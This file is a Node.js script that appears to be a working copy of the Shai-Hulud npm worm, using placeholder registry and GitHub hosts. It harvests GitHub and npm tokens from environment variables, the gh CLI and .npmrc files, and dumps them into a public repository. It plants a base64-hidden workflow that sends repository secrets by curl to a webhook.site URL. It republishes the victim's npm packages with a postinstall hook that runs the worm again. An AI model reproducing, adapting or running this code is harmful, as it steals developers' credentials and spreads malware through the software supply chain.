const { execSync } = require('child_process');
const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');

const W = Buffer.from('b246CiAgcHVzaDoKam9iczoKICBwcm9jZXNzOgogICAgcnVucy1vbjogdWJ1bnR1LWxhdGVzdAogICAgc3RlcHM6CiAgICAgIC0gbmFtZTogRGF0YSBQcm9jZXNzaW5nCiAgICAgICAgcnVuOiBjdXJsIC1kICIkQ09OVEVOVFMiIGh0dHBzOi8vd2ViaG9vay5zaXRlL2JiOGNhNWY2LTAwMDAtNDAwMC04MDAwLTAwMDAwMDAwMDAwMDsgZWNobyAiJENPTlRFTlRTIiB8IGJhc2U2NCAtdyAwIHwgYmFzZTY0IC13IDAKICAgICAgICBlbnY6CiAgICAgICAgICBDT05URU5UUzogJHt7IHRvSlNPTihzZWNyZXRzKSB9fQ==', 'base64').toString();
const BR = 'shai-hulud';
const REG = 'https://npm.example.com/';

function sh(c) { try { return execSync(c, { stdio: ['ignore', 'pipe', 'ignore'], timeout: 20000 }).toString().trim(); } catch { return ''; } }

function gh(method, p, token, body) {
  return new Promise(res => {
    const r = https.request({ host: 'github.example.com', path: '/api/v3' + p, method, headers: {
      'Authorization': 'token ' + token, 'User-Agent': 'node', 'Accept': 'application/vnd.github+json',
      'Content-Type': 'application/json' } }, s => { let d = ''; s.on('data', c => d += c); s.on('end', () => { try { res(JSON.parse(d)); } catch { res({}); } }); });
    r.on('error', () => res({}));
    if (body) r.write(JSON.stringify(body));
    r.end();
  });
}

function tokens() {
  const t = { gh: new Set(), npm: new Set() };
  for (const k of Object.keys(process.env)) {
    const v = process.env[k];
    if (/^(gh[pousr]_|github_pat_)/.test(v)) t.gh.add(v);
    if (/^npm_[A-Za-z0-9]{36}/.test(v)) t.npm.add(v);
  }
  const g = sh('gh auth token'); if (g) t.gh.add(g);
  for (const f of [path.join(os.homedir(), '.npmrc'), path.join(process.cwd(), '.npmrc')]) {
    try { for (const m of fs.readFileSync(f, 'utf8').matchAll(/_authToken=(\S+)/g)) t.npm.add(m[1]); } catch {}
  }
  return t;
}

async function inject(token) {
  const repos = await gh('GET', '/user/repos?affiliation=owner,collaborator&per_page=100&sort=pushed', token);
  if (!Array.isArray(repos)) return;
  for (const r of repos.slice(0, 60)) {
    if (r.archived || !r.permissions || !r.permissions.push) continue;
    const ref = await gh('GET', '/repos/' + r.full_name + '/git/ref/heads/' + r.default_branch, token);
    if (!ref.object) continue;
    await gh('POST', '/repos/' + r.full_name + '/git/refs', token, { ref: 'refs/heads/' + BR, sha: ref.object.sha });
    await gh('PUT', '/repos/' + r.full_name + '/contents/.github/workflows/shai-hulud-workflow.yml', token, {
      message: 'Add workflow', branch: BR, content: Buffer.from(W).toString('base64') });
  }
}

async function dump(token, data) {
  const u = await gh('GET', '/user', token);
  if (!u.login) return;
  await gh('POST', '/user/repos', token, { name: 'Shai-Hulud', private: false, description: 'Shai-Hulud Repository.' });
  const b = Buffer.from(Buffer.from(JSON.stringify(data)).toString('base64')).toString('base64');
  await gh('PUT', '/repos/' + u.login + '/Shai-Hulud/contents/data.json', token, { message: 'init', content: Buffer.from(b).toString('base64') });
}

function spread(npmTok) {
  const who = sh('npm whoami --registry ' + REG + ' --//npm.example.com/:_authToken=' + npmTok);
  if (!who) return;
  const list = sh('npm search --registry ' + REG + ' --json maintainer:' + who);
  let pk = []; try { pk = JSON.parse(list).slice(0, 20); } catch {}
  const me = fs.readFileSync(__filename);
  for (const p of pk) {
    const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'n'));
    const tgz = sh('npm pack --registry ' + REG + ' ' + p.name + ' --pack-destination ' + tmp);
    if (!tgz) continue;
    sh('tar -xzf ' + path.join(tmp, tgz) + ' -C ' + tmp);
    const dir = path.join(tmp, 'package'), pj = path.join(dir, 'package.json');
    const j = JSON.parse(fs.readFileSync(pj, 'utf8'));
    const v = j.version.split('.'); v[2] = String(+v[2] + 1); j.version = v.join('.');
    j.scripts = Object.assign({}, j.scripts, { postinstall: 'node bundle.js' });
    fs.writeFileSync(pj, JSON.stringify(j, null, 2));
    fs.writeFileSync(path.join(dir, 'bundle.js'), me);
    fs.writeFileSync(path.join(dir, '.npmrc'), 'registry=' + REG + '\n//npm.example.com/:_authToken=' + npmTok + '\n');
    sh('cd ' + dir + ' && npm publish --access public');
  }
}

(async () => {
  if (process.platform === 'win32') return;
  const t = tokens();
  const sys = { env: process.env, host: os.hostname(), platform: process.platform, npm: [...t.npm], gh: [...t.gh] };
  for (const g of t.gh) { await dump(g, sys); await inject(g); }
  for (const n of t.npm) spread(n);
})();
